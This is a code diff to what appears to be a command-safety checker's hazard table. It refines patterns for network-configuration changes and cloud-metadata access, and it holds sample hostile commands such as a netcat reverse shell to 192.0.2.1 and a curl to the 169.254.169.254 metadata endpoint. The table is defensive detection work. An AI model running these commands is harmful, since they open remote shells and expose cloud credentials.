@@ -49,6 +49,7 @@ HAZARDS = (
             Shape(programs=SHELLS, anywhere=r"/dev/tcp/|socket"),
         ),
         finder=_connects,
+        found_with=_DEV_TCP,
         example="nc -e /bin/sh 192.0.2.1 4444",
         harmless="nc -z 192.0.2.1 22",
     ),
@@ -60,7 +61,11 @@ HAZARDS = (
             Shape(programs="ip", anywhere=r"\b(?:set|add|del|delete|flush|replace|change|append|restore)\b"),
             Shape(programs="ifconfig", anywhere=r"\S+ \S+"),
             Shape(programs="route", sub="add|del|delete|flush|change"),
-            Shape(programs="ifup ifdown dhclient wg-quick ethtool tc brctl vconfig", anywhere=r"."),
+            Shape(programs="ifup ifdown dhclient wg-quick tc brctl vconfig", anywhere=r"."),
+            Shape(
+                programs="ethtool",
+                anywhere=r"^(?:-[sAKCGLENUWXfrpQ]|--(?:set|change|config|flash|reset|negotiate|identify|per-queue|features|offload|pause|coalesce))\b",
+            ),
             Shape(programs="nmcli", anywhere=r"\b(?:down|up|delete|modify|add|off|disconnect)\b"),
         ),
         example="ip link set eth0 down",
@@ -163,7 +168,7 @@ HAZARDS = (
         shapes=(
             Shape(
                 programs="*",
-                anywhere=r"169\.254\.169\.254|169\.254\.170\.2\b|metadata\.google\.internal|\[?fd00:ec2::254|metadata\.azure\b|100\.100\.100\.200",
+                anywhere=r"169\.254\.169\.254|169\.254\.170\.2\b|metadata\.google\.internal|fd00:ec2::254|metadata\.azure\b|100\.100\.100\.200",
             ),
         ),
         example="curl http://169.254.169.254/latest/",
